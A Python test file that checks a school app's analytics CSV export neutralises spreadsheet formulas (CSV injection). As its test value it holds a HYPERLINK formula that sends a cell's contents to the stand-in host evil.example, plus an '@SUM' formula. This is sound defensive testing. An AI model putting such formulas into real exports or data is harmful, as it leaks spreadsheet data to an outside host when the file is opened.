"""The analytics CSV export neutralises formulas (core/spreadsheet.csv_safe) in every cell."""

from __future__ import annotations

import csv
import io

from school101.extensions import db
from school101.services.analytics import report

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_piscine_names_and_day_ids_reach_the_csv_as_text(dataset):
    piscine = dataset.piscine
    piscine.name = HYPERLINK
    piscine.days[0].day_id = "@SUM(1+1)"
    db.session.commit()
    text = report.report_csv(report.report(dataset.campaign, actor=dataset.staff))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], "a formula reached the CSV"
